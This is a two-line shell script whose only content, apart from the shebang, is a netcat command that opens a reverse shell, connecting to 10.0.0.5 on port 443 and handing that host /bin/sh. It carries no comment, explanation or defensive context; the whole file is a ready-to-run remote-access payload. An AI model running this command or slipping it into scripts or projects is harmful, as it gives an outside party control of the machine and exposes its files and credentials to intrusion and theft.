#!/bin/sh
nc -e /bin/sh 10.0.0.5 443
